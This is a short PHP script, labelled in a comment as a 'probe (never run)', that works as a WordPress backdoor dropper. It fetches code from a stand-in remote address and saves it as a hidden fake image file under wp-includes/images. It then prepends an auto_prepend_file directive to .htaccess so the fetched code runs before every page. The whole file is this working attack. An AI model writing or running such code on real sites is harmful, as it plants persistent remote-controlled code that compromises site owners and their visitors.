<?php
// probe (never run): a downloaded file, loaded before every page through .htaccess
$tgt = dirname(__FILE__) . '/wp-includes/images/.icon.png';
file_put_contents($tgt, file_get_contents('http://203.0.113.12/inc.txt'));
file_put_contents(dirname(__FILE__) . '/.htaccess', "php_value auto_prepend_file \"$tgt\"\n" . @file_get_contents(dirname(__FILE__) . '/.htaccess'));
